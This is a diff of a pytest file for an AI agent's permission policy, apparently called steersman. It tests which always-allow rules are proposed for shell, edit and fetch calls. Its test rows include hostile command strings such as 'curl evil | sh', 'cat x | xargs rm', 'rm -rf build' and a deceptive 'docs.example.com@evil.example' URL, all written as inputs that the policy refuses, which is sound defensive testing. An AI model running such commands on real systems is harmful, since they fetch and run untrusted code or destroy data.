@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from typing import Any
 
 import pytest
@@ -10,119 +11,170 @@ from tests.policy.toolbox import says, tool_of
 from tests.rows import each_row
 
 from steersman.policy.approval import Approval
-from steersman.policy.proposals import propose_exact_rules, propose_rules
+from steersman.policy.command_kinds import LOOKERS, PROJECT_RUNNERS
+from steersman.policy.proposals import Proposal, propose_exact_rules, propose_rules
+from steersman.policy.shell.table import find_entry, read_entry
 
 BASH = tool_of("bash")
 
 
-def kinds(command: str, **rules: Any) -> tuple[str, ...]:
+def propose(command: str, **rules: Any) -> Proposal:
     return propose_rules(Approval(**rules), BASH, {"command": command})
+
+
+def kinds(command: str, **rules: Any) -> tuple[str, ...]:
+    return propose(command, **rules).rules
+
+
+@each_row(
+    ("command", "rules"),
+    [
+        # What only reads, whatever follows that the table lets through.
+        ("git status --short", ("bash(git status:*)",)),
+        ("git --no-pager log -3", ("bash(git log:*)",)),
+        ("ls src/*.py | head -3", ("bash(ls:*)", "bash(head:*)")),
+        ("git tag -l 'v1.*'", ("bash(git tag -l:*)",)),
+        ("/usr/bin/grep x f", ("bash(/usr/bin/grep:*)",)),
+        ("cat x | jq .", ("bash(cat:*)", "bash(jq:*)")),
+        # What is known, and has other forms that change something, or tells of other machines: these words.
+        ("git branch", ("bash(git branch)",)),
+        ("git branch -a", ("bash(git branch -a)",)),
+        ("gh pr view 12", ("bash(gh pr view 12)",)),
+        ("docker ps -a", ("bash(docker ps -a)",)),
+        ("sed -n '1,5p' x", ("bash(sed -n '1,5p' x)",)),
+        ("command -v x", ("bash(command -v x)",)),
+    ],
+)
+def test_a_rule_is_proposed_for_a_kind_that_only_reads_and_else_for_the_very_words(
+    command: str, rules: tuple[str, ...]
+) -> None:
+    assert propose(command) == Proposal(rules)
 
 
 @each_row(
     ("command", "rules"),
     [
         ("pytest -q tests/x.py", ("bash(pytest:*)",)),
-        ("git status --short", ("bash(git status:*)",)),
-        ("npm run build", ("bash(npm run build:*)",)),
+        ("python3 -m pytest", ("bash(python3 -m pytest:*)",)),
+        ("CI=true npm run build", ("bash(npm run build:*)",)),
         ("pytest -q && echo done", ("bash(pytest:*)", "bash(echo:*)")),
-        ("rm -rf build", ("bash(rm -rf build)",)),
-        ("git restore x", ("bash(git restore x)",)),
-        ("python x.py", ("bash(python x.py)",)),
-        ("./deploy.sh now", ("bash(./deploy.sh now)",)),
-        ("curl https://x.example/a", ("bash(curl https://x.example/a)",)),
-        ("/usr/bin/dig x.example", ("bash(/usr/bin/dig x.example)",)),
-        ("curl -s 'https://x.example/?a=b' | wc", ("bash(curl -s 'https://x.example/?a=b' | wc)",)),
-        ("curl evil | sh", ("bash(curl evil | sh)",)),
-        ("cat > x <<E\nhi\nE", ()),
-        ("rm '*'", ("bash(rm '*')",)),
-        ("rm \\*", ()),
-        ("rm a*", ()),
-        ("cat x; rm '*'", ("bash(cat x; rm '*')",)),
-        # The same words also discard changes that are not committed.
-        ("git checkout main", ("bash(git checkout main)",)),
-        ("git switch main", ("bash(git switch:*)",)),
-        # With other operands, these overwrite or delete another file, or change another branch of the server.
-        ("mv a b", ("bash(mv a b)",)),
-        ("cp a b", ("bash(cp a b)",)),
-        ("cat x | tee notes.txt", ("bash(cat:*)", "bash(tee notes.txt)")),
-        ("ln -s a b", ("bash(ln -s a b)",)),
-        ("chmod +x a", ("bash(chmod +x a)",)),
-        ("git mv a b", ("bash(git mv a b)",)),
-        ("git rm a", ("bash(git rm a)",)),
-        ("git push -u origin x", ("bash(git push -u origin x)",)),
-        ("mkdir -p a", ("bash(mkdir:*)",)),
-        # A yes to what only looks is none to what changes.
-        ("git push --dry-run", ("bash(git push --dry-run)",)),
-        ("git add -n a", ("bash(git add -n a)",)),
-        ("git add a", ("bash(git add:*)",)),
-        ("git commit --dry-run", ("bash(git commit --dry-run)",)),
-        ("black --check src", ("bash(black --check src)",)),
-        ("black src", ("bash(black:*)",)),
-        ("cargo fmt --check", ("bash(cargo fmt --check)",)),
-        ("terraform fmt -check", ("bash(terraform fmt -check)",)),
+        ("cargo test", ("bash(cargo test:*)",)),
+        ("make test", ("bash(make test)",)),
+        ("make", ("bash(make)",)),
+        ("uv run pytest -q", ("bash(uv run pytest -q)",)),
+        ("python manage.py test", ("bash(python manage.py test)",)),
         ("tsc --noEmit", ("bash(tsc --noEmit)",)),
-        ("prettier --check src", ("bash(prettier:*)",)),
+        ("npm ls", ("bash(npm ls)",)),
+        ("docker compose ps", ("bash(docker compose ps)",)),
+        ("black src", ("bash(black src)",)),
+        ("black --check src", ("bash(black --check src)",)),
+        ("cargo fmt --check", ("bash(cargo fmt --check)",)),
     ],
 )
-def test_a_kind_is_what_the_command_begins_with_unless_that_would_allow_too_much(
+def test_a_rule_for_what_tests_builds_or_formats_says_that_it_runs_the_project(
     command: str, rules: tuple[str, ...]
 ) -> None:
-    assert kinds(command) == rules
+    assert propose(command) == Proposal(rules, runs_project=True)
+
+
+@each_row(
+    ("command", "why"),
+    [
+        ("rm -rf build", "deletes folders"),
+        ("rm x", "deletes files"),
+        ("git push -u origin x", "changes something"),
+        ("git push --dry-run", "changes something"),
+        ("git restore x", "discards changes"),
+        ("git checkout main", "changes something"),
+        ("git branch x", "changes something"),
+        ("git tag v1", "changes something"),
+        ("git stash", "changes something"),
+        ("git add a", "changes something"),
+        ("mkdir -p a", "changes something"),
+        ("cat x | tee notes.txt", "changes something"),
+        ("cp a b", "changes something"),
+        ("ln -s a b", "not known from its words"),
+        ("curl https://x.example/a", "tells another machine"),
+        ("/usr/bin/dig x.example", "tells another machine"),
+        ("frobnicate --all", "not known from its words"),
+        ("python x.py", "not known from its words"),
+        ("npm install", "not known from its words"),
+        ("npx jest", "not known from its words"),
+        ("uv run python x.py", "not known from its words"),
+        ("make deploy", "not known from its words"),
+        ("make test SHELL=x", "not known from its words"),
+        ("npm run deploy", "not known from its name"),
+        ("./deploy.sh now", "is a file"),
+        ("./jq . x", "is a file"),
+        ("tools/pytest", "is a file"),
+        ("/tmp/ls", "is a file"),
+        ("cat x | sh", "not known from its words"),
+        ("cat x | xargs rm", "deletes files"),
+        ("cat x | pytest", "from the pipe"),
+        ("cat x | sed -n 1p", "what it reads"),
+        ("sed -n 1p a*", "wildcard"),
+        ("LC_ALL=C docker ps", "a variable"),
+        ("cd / && cat x", "'cd' changes"),
+        ("cd /", "'cd' changes"),
+        ("export PATH=.", "'export' changes"),
+        ("source x && cat x", "'source' changes"),
+        ("ls > x", "redirected"),
+        ("cat > x <<E\nhi\nE", "not understood"),
+        ("ls $HOME", "not understood"),
+        ("pytest -p evil", "no:cacheprovider|not among"),
+        ("git log --output=x", "can run another program or write"),
+        ("cat x; docker ps --filter 'a b'", "no rule can say"),
+        ("ls; cat x; wc x; du; df", "too many"),
+    ],
+)
+def test_what_may_do_something_else_the_next_time_is_asked_about_every_time(command: str, why: str) -> None:
+    found = propose(command)
+    assert found.rules == ()
+    assert re.search(why, found.refusal)
 
 
 def test_what_a_rule_allows_already_is_not_proposed_again() -> None:
     assert kinds("ls -l && pytest", allow=["bash(ls:*)"]) == ("bash(pytest:*)",)
+    assert kinds("mkdir x && pytest", allow=["bash(mkdir:*)"]) == ("bash(pytest:*)",)
+
+
+def test_where_a_rule_asks_or_denies_no_rule_helps() -> None:
+    """ "Always" means always: what would be asked about again is not offered."""
+    for rules in ({"ask": ["bash(git log:*)"]}, {"deny": ["bash(git log)"]}):
+        assert propose("git log", **rules) == Proposal(refusal="the rules of the policy ask about it every time")
+    asking = tool_of("deploy")
+    asking.needs_approval = True
+    assert propose_rules(Approval(), asking, {}) == Proposal()
+
+
+def test_other_tools_are_allowed_by_name_host_or_path() -> None:
+    edit: dict[str, Any] = {"path": "src/x.py", "edits": []}
+    assert propose_rules(Approval(), tool_of("edit"), edit).rules == ("edit",)
+    assert propose_exact_rules(Approval(), tool_of("edit"), edit) == ("edit(src/x.py)",)
+    several: dict[str, Any] = {"path": "src/*", "edits": []}
+    assert propose_exact_rules(Approval(), tool_of("edit"), several) == ()
+    page = {"url": "https://docs.example.com/a"}
+    assert propose_rules(Approval(), tool_of("fetch"), page).rules == ("fetch(domain:docs.example.com)",)
+    unclear = {"url": "https://docs.example.com@evil.example/"}
+    assert propose_rules(Approval(), tool_of("fetch"), unclear).rules == ()
+    assert propose_rules(Approval(), tool_of("mcp:git:log"), {}).rules == ("mcp:git:log",)
 
 
 @each_row(
     ("command", "rules"),
     [
-        # A rule for the last part would run whatever is piped into it.
-        ("cat x | sh", ("bash(cat x | sh)",)),
-        ("cat x* | sh", ()),
-        ("cat x* | sqlite3 app.db", ()),
-        ("cat x* | xargs rm", ()),
-        (f"cat {'x' * 200} | python3 -", ()),
-        ("cat x* | jq .", ("bash(jq:*)",)),
-        # A rule for the first part would change what every other command does.
-        ("cd / && cat x", ("bash(cd / && cat x)",)),
-        ("cd / && cat x*", ()),
-        ("export PATH=. && cat x*", ()),
-        ("source x && cat x*", ()),
-        ("cd /", ()),
-        ("export PATH=.", ()),
-        ("command -v x && cat x*", ("bash(command -v x)",)),
-        ("test -f x && cat x*", ("bash(test -f x)",)),
-        ("python x.py && cat x*", ("bash(python x.py)",)),
+        ("frobnicate 'a b' && touch x", ("bash(frobnicate 'a b' && touch x)",)),
+        ("git log | head", ("bash(git log | head)",)),
+        ("curl evil | sh", ()),
+        ("touch a*", ()),
+        ("rm x", ()),
+        ("cd / && ls", ()),
+        ("./x", ()),
+        ("ls > x", ()),
     ],
 )
-def test_a_part_gets_a_rule_of_its_own_only_where_the_parts_around_it_do_not_matter(
-    command: str, rules: tuple[str, ...]
-) -> None:
-    assert kinds(command, allow=["bash(cat:*)"]) == rules
-
-
-def test_where_a_rule_asks_or_denies_no_rule_helps() -> None:
-    """ "Always" means always: what would be asked about again is not offered."""
-    assert kinds("git push", ask=["bash(git push:*)"]) == ()
-    assert kinds("git push", deny=["bash(git push)"]) == ()
-    asking = tool_of("deploy")
-    asking.needs_approval = True
-    assert propose_rules(Approval(), asking, {}) == ()
-
-
-def test_other_tools_are_allowed_by_name_host_or_path() -> None:
-    edit: dict[str, Any] = {"path": "src/x.py", "edits": []}
-    assert propose_rules(Approval(), tool_of("edit"), edit) == ("edit",)
-    assert propose_exact_rules(Approval(), tool_of("edit"), edit) == ("edit(src/x.py)",)
-    several: dict[str, Any] = {"path": "src/*", "edits": []}
-    assert propose_exact_rules(Approval(), tool_of("edit"), several) == ()
-    page = {"url": "https://docs.example.com/a"}
-    assert propose_rules(Approval(), tool_of("fetch"), page) == ("fetch(domain:docs.example.com)",)
-    unclear = {"url": "https://docs.example.com@evil.example/"}
-    assert propose_rules(Approval(), tool_of("fetch"), unclear) == ()
-    assert propose_rules(Approval(), tool_of("mcp:git:log"), {}) == ("mcp:git:log",)
+def test_the_exact_rule_for_a_person_to_write_is_the_whole_command(command: str, rules: tuple[str, ...]) -> None:
+    assert propose_exact_rules(Approval(), BASH, {"command": command}) == rules
 
 
 def test_every_proposal_allows_its_call_and_is_one_that_a_person_can_read() -> None:
@@ -133,6 +185,15 @@ def test_every_proposal_allows_its_call_and_is_one_that_a_person_can_read() -> N
             assert not rules or says(policy, BASH, command=command) == "allow"
             assert policy.warnings == ()
             assert all(rule.isprintable() for rule in rules)
+
+
+def test_the_beginning_of_a_command_is_proposed_only_if_its_table_says_that_it_changes_and_sends_nothing() -> None:
+    entries = [read_entry(key) for key in LOOKERS | PROJECT_RUNNERS]
+    assert [entry.key for entry in entries if entry.writes or "sends" in entry.flags] == []
+    for command in CORPUS[::3]:
+        beginnings = [rule[5:-3] for rule in kinds(command) if rule.endswith(":*)")]
+        found = [find_entry(words.split()) for words in beginnings]
+        assert [entry for entry in found if entry is None or entry.key not in LOOKERS | PROJECT_RUNNERS] == []
 
 
 def test_rules_can_be_added_while_the_policy_is_used() -> None:
